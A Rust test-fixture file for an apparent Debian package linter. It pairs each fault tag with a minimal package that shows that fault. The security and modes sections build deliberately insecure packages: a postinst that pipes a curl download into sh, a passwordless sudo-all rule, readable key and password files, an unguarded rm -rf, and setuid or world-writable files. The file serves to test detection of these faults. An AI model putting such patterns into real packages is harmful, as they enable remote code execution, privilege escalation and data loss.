//! A package for each kind of finding.

use super::seeds::{Seed, named};
use super::{control, programs};
use crate::forged::{Header, gzip};

const UNIT: &str =
    "[Unit]\nDescription=Clean\n[Service]\nExecStart=/usr/bin/clean\nDynamicUser=yes\n";

const INIT: &str = "#!/bin/sh\n### BEGIN INIT INFO\n# Provides: clean\n# Required-Start: $remote_fs\n# Required-Stop: $remote_fs\n\
    # Default-Start: 2 3 4 5\n# Default-Stop: 0 1 6\n### END INIT INFO\ncase $1 in start|stop|restart|force-reload) ;; esac\n";

/// A unit that lacks nothing.
fn confined(service: &str) -> String {
    let names = [
        "NoNewPrivileges",
        "ProtectSystem",
        "PrivateTmp",
        "PrivateDevices",
        "ProtectHome",
        "CapabilityBoundingSet",
        "ProtectKernelTunables",
        "ProtectKernelModules",
        "ProtectControlGroups",
        "RestrictNamespaces",
        "RestrictSUIDSGID",
        "SystemCallFilter",
        "RestrictAddressFamilies",
        "MemoryDenyWriteExecute",
        "LockPersonality",
        "ProtectKernelLogs",
        "ProtectClock",
        "ProtectHostname",
        "RestrictRealtime",
        "SystemCallArchitectures",
        "ProtectProc",
        "UMask",
    ];
    let lines = names.map(|name| format!("{name}=yes\n")).concat();
    format!("{UNIT}{lines}{service}\n")
}

/// The package with an init script that is registered, and a unit.
fn with_init(text: &str, mode: u32) -> Seed {
    Seed::clean()
        .conffile("etc/init.d/clean", mode, text)
        .script("postinst", "update-rc.d clean defaults")
        .script("postrm", "update-rc.d clean remove")
        .file("usr/lib/systemd/system/clean.service", 0o644, confined(""))
}

fn with_unit(service: &str) -> Seed {
    Seed::clean().file(
        "usr/lib/systemd/system/clean.service",
        0o644,
        confined(service),
    )
}

fn data(path: &str, content: impl AsRef<[u8]>) -> Seed {
    Seed::clean().file(path, 0o644, content)
}

fn postinst(body: &str) -> Seed {
    Seed::clean().script("postinst", body)
}

/// Returns each tag with a package that has this fault; behind a blank, the tags that come with it.
pub(super) fn all() -> Vec<(&'static str, Seed)> {
    [
        control::all(),
        places(),
        names(),
        documents(),
        scripts(),
        machine(),
        security(),
        modes(),
        interpreters(),
        programs::all(),
    ]
    .concat()
}

fn places() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    let links = [
        ("symlink-form", "/usr/bin/clean"),
        ("symlink-form", "../bin//clean"),
        ("symlink-lost", "../../../../x"),
        ("symlink-lost", "/tmp/clean"),
    ];
    let mut seeds: Vec<_> = links
        .map(|(tag, target)| (tag, clean().link("usr/share/clean-link", target)))
        .into();
    let owned = Header::new(b'0', "./usr/share/clean/x")
        .put(108, "0001750\x000001750\0")
        .put(265, "joe\0")
        .put(297, "joe\0");
    seeds.extend([
        ("place-of-sysadmin", data("usr/local/lib", "x\n")),
        ("place-of-sysadmin", data("srv/x", "x\n")),
        ("place-opt", data("opt/x", "x\n")),
        ("place-unknown", clean().directory("usr/clean", 0o755)),
        ("place-unknown", clean().directory("usr/bin/clean.d", 0o755)),
        ("place-unknown", data("usr/share/clean", "x\n")),
        ("place-aliased", data("lib/clean/x", "x\n")),
        (
            "place-twice place-aliased",
            data("lib/clean/x", "x\n").file("usr/lib/clean/x", 0o644, "x\n"),
        ),
        (
            "owner-unknown",
            clean().entry("usr/share/clean/x", owned.bytes()),
        ),
        (
            "mode-unusual",
            clean().file("usr/share/clean/x", 0o640, "x\n"),
        ),
        ("mode-unusual", clean().directory("usr/share/clean", 0o700)),
        (
            "executable-without-program",
            clean().file("usr/share/clean/x", 0o755, "x\n"),
        ),
        (
            "script-not-executable",
            data("usr/share/clean/x", "#!/bin/sh\n"),
        ),
    ]);
    seeds
}

fn names() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    let name = |name: &[u8]| clean().entry("usr/share/clean/named", named(name));
    vec![
        ("program-empty", clean().command("usr/bin/nothing", "")),
        (
            "command-with-language",
            clean().command("usr/bin/clean.sh", "#!/bin/sh\n"),
        ),
        ("name-odd", name(b"\xff")),
        ("name-odd", name(b"x ")),
        ("name-odd", name(b"*")),
        ("file-left-over", data("usr/share/clean/x~", "x\n")),
        ("file-left-over", data("usr/share/clean/.gitignore", "x\n")),
        (
            "file-of-triggers",
            data("usr/share/applications/mimeinfo.cache", "x\n"),
        ),
        (
            "apt-setup",
            clean().conffile("etc/apt/sources.list.d/x.list", 0o644, "x\n"),
        ),
        (
            "libraries-of-all",
            clean().conffile("etc/ld.so.conf.d/x.conf", 0o644, "/usr/lib/clean\n"),
        ),
        (
            "registry-place",
            clean().conffile("etc/udev/rules.d/x.rules", 0o644, "x\n"),
        ),
        (
            "registry-place",
            clean().conffile("etc/skel/.cleanrc", 0o644, "x\n"),
        ),
        (
            "cron-form",
            clean().conffile("etc/cron.d/clean.job", 0o644, "# none\n"),
        ),
        (
            "cron-form",
            clean().conffile("etc/cron.daily/clean", 0o644, "# none\n"),
        ),
    ]
}

fn documents() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    let copyright = "usr/share/doc/clean/copyright";
    vec![
        ("copyright-missing", clean().without(copyright)),
        (
            "changelog-missing",
            clean().without("usr/share/doc/clean/changelog.Debian.gz"),
        ),
        (
            "document-compression",
            data("usr/share/doc/clean/changelog", "x\n"),
        ),
        (
            "document-compression",
            data("usr/share/man/man5/clean.5", "x\n"),
        ),
        (
            "document-mode",
            clean().file("usr/share/doc/clean/x", 0o644, ""),
        ),
        ("document-mode", data("usr/share/doc/x", "x\n")),
        (
            "manual-page-place",
            data("usr/share/man/man5/clean.1.gz", gzip("x\n")),
        ),
        (
            "manual-page-missing",
            clean().file("usr/bin/other", 0o755, "#!/bin/sh\n"),
        ),
        (
            "document-for-others",
            data("usr/share/doc/clean/INSTALL", "x\n"),
        ),
        (
            "license-spelled-out",
            data(
                copyright,
                format!(
                    "GNU GENERAL PUBLIC LICENSE\nVersion 3\n{}TERMS AND CONDITIONS\nx\n",
                    "text\n".repeat(3000)
                ),
            ),
        ),
        (
            "template-text",
            data(copyright, "<put author's name and email here>\n"),
        ),
        (
            "time-in-gzip",
            data(
                "usr/share/clean/x.gz",
                [&gzip("x\n")[..4], &[1, 2, 3, 4], &gzip("x\n")[8..]].concat(),
            ),
        ),
    ]
}

fn scripts() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    let run_by = |line: &str| Seed::clean().member("postinst", 0o755, line);
    vec![
        ("script-run-by", run_by("#!/usr/bin/python3\nprint()\n")),
        ("script-run-by", run_by("#!/usr/local/bin/perl\nprint;\n")),
        ("script-ignores-errors", run_by("#!/bin/sh\necho x\n")),
        (
            "script-bashism",
            postinst("if [[ $1 = configure ]]; then :; fi"),
        ),
        (
            "script-bashism",
            postinst("[ \"$1\" == configure ] || exit 0"),
        ),
        ("script-calls-manager", postinst("systemctl daemon-reload")),
        ("script-calls-manager", postinst("service clean restart")),
        (
            "script-calls-manager",
            postinst("/etc/init.d/clean restart"),
        ),
        ("script-needs-package", postinst("adduser --system clean")),
        ("script-changes-others", postinst("ldconfig")),
        (
            "script-changes-others",
            postinst("echo clean 4000/tcp >> /etc/services"),
        ),
        ("script-changes-others", postinst("mknod /dev/clean c 1 3")),
        (
            "script-registers-wrongly",
            postinst("update-alternatives --set editor /usr/bin/clean"),
        ),
        (
            "script-registers-wrongly",
            postinst(
                "update-alternatives --install /usr/lib/systemd/system/x.service x /usr/lib/x 1",
            ),
        ),
        (
            "script-registers-wrongly",
            clean().script(
                "preinst",
                "dpkg-divert --package clean --add /usr/lib/udev/rules.d/x.rules",
            ),
        ),
        (
            "script-registers-wrongly",
            clean().script(
                "postrm",
                "update-alternatives --remove editor /usr/bin/clean",
            ),
        ),
        ("script-token", postinst("echo x\n#DEBHELPER#")),
    ]
}

fn machine() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    vec![
        (
            "init-header",
            with_init("#!/bin/sh\n# start stop restart force-reload\n", 0o755),
        ),
        (
            "init-header",
            with_init(&INIT.replace("# Provides: clean\n", ""), 0o755),
        ),
        (
            "init-actions",
            with_init(&INIT.replace("|force-reload", ""), 0o755),
        ),
        (
            "init-registration",
            with_init(INIT, 0o755).script("postinst", "echo x"),
        ),
        (
            "init-without-unit",
            with_init(INIT, 0o755).without("usr/lib/systemd/system/clean.service"),
        ),
        (
            "unit-place",
            clean().conffile("etc/systemd/system/clean.service", 0o644, &confined("")),
        ),
        ("unit-out-of-use", with_unit("KillMode=none")),
        ("unit-out-of-use", with_unit("StandardOutput=syslog")),
        ("unit-as-nobody", with_unit("User=nobody")),
        (
            "sudoers-mode",
            clean().conffile("etc/sudoers.d/clean", 0o400, "# none\n"),
        ),
    ]
}

fn security() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    let owned = |header: Header| header.put(265, "clean\0").put(297, "clean\0").mode(0o755);
    let folder = owned(Header::new(b'5', "./usr/lib/clean/"));
    let key = "-----BEGIN PRIVATE KEY-----\nMIIB\n-----END PRIVATE KEY-----\n";
    vec![
        ("secret-readable", data("usr/share/clean/key.pem", key)),
        (
            "secret-readable",
            clean().conffile("etc/clean.conf", 0o644, "password = hunter2hunter2\n"),
        ),
        (
            "sudo-rule",
            clean().conffile(
                "etc/sudoers.d/clean",
                0o440,
                "clean ALL=(ALL) NOPASSWD: ALL\n",
            ),
        ),
        (
            "capability-given",
            postinst("setcap cap_net_raw+ep /usr/bin/clean"),
        ),
        ("service-exposed", with_unit("PrivateDevices=no")),
        (
            "script-runs-download",
            postinst("curl -fsS https://example.com/x | sh"),
        ),
        (
            "script-removes-unguarded",
            postinst("rm -rf \"$HOME_OF_CLEAN/\""),
        ),
        (
            "script-changes-tree",
            postinst("chown -R clean:clean /var/lib/clean"),
        ),
        ("script-kills-by-name", postinst("pkill -u clean || true")),
        ("script-temporary-file", postinst("echo x > /tmp/clean.log")),
        (
            "root-runs-writable",
            with_unit("DynamicUser=no\nExecStartPre=+/usr/lib/clean/prepare\nUser=clean")
                .entry("usr/lib/clean/", folder.bytes())
                .file("usr/lib/clean/prepare", 0o755, "#!/bin/sh\n"),
        ),
    ]
}

/// Files that are not what they should be, whatever is in them.
fn modes() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    let special = Header::new(b'3', "./usr/share/clean/null").put(329, "0000001\x000000003\0");
    let link = Header::new(b'1', "./usr/share/clean/other").target("./usr/bin/clean");
    let ancient = Header::new(b'0', "./usr/share/clean/x").put(136, "00000000001\0");
    vec![
        (
            "writable-by-all mode-unusual",
            clean().directory("usr/share/clean", 0o777),
        ),
        (
            "writable-by-all mode-unusual",
            clean().file("usr/share/clean/x", 0o666, "x\n"),
        ),
        (
            "setuid-program",
            clean().file("usr/bin/clean", 0o4755, "#!/bin/sh\n"),
        ),
        (
            "setuid-program",
            clean().file("usr/bin/clean", 0o2755, "#!/bin/sh\n"),
        ),
        (
            "file-special",
            clean().entry("usr/share/clean/null", special.bytes()),
        ),
        (
            "hard-link-elsewhere",
            clean().entry("usr/share/clean/other", link.bytes()),
        ),
        (
            "file-ancient",
            clean().entry("usr/share/clean/x", ancient.bytes()),
        ),
        (
            "mode-of-umask mode-unusual",
            clean().file("usr/share/clean/x", 0o664, "x\n"),
        ),
        ("init-mode", with_init(INIT, 0o644)),
        (
            "field-empty",
            clean()
                .field("Tag", " ")
                .field("Description", "does what it should\n It does it well."),
        ),
        ("compression-old", clean().not_compressed()),
    ]
}

fn interpreters() -> Vec<(&'static str, Seed)> {
    let clean = Seed::clean;
    vec![
        (
            "interpreter-path",
            clean().command("usr/bin/x", "#!/usr/local/bin/perl\n"),
        ),
        ("interpreter-path", clean().command("usr/bin/x", "#!perl\n")),
        (
            "interpreter-not-asked-for",
            clean().command("usr/bin/x", "#!/usr/bin/python3\n"),
        ),
        (
            "program-in-all",
            data("usr/lib/clean/libclean.a", "!<arch>\nclean.o/"),
        ),
        (
            "ldconfig-trigger",
            clean().member("triggers", 0o644, "activate-noawait ldconfig\n"),
        ),
    ]
}
